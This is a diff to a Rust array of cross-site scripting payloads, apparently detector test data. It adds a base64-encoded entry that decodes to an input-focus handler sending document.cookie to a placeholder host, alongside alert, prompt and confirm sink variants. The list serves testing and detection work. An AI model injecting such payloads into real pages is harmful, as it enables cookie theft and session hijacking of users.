@@ -163,6 +163,9 @@ const XSS: &[&str] = &[
     // octal string escapes, numeric references padded with zeros
     r#"('\141\154\145\162\164\50\61\51')()"#,
     r#"prompt&#000000040;1&#000000041;"#,
+    // a base64 token of 128 bytes and more, all alphanumeric (a handler
+    // that sends the cookie away, with a page's parameters after it)
+    r#"PGlucHV0IGF1dG9mb2N1cyBvbmZvY3VzPSdsb2NhdGlvbj1gLy8xMjcuMC4wLjEvYz9gLmNvbmNhdChkb2N1bWVudC5jb29raWUpJz4mcGFnZT0yJnNvcnQ9bmFtZSZx"#,
     // a sink called optionally, or through its own `call` / `apply`
     r#"alert?.(document?.cookie)"#,
     r#"confirm.call(null,1)"#,
